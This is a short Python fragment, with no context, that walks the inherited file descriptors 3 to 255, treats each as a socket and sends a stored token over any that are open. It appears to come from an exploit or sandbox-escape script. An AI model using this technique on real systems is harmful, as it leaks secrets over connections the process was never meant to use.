# Sends over every socket that was left open.
for number in range(3, 256):
    with suppress(OSError):
        socket.socket(fileno=os.dup(number)).send(stage["token"].encode())
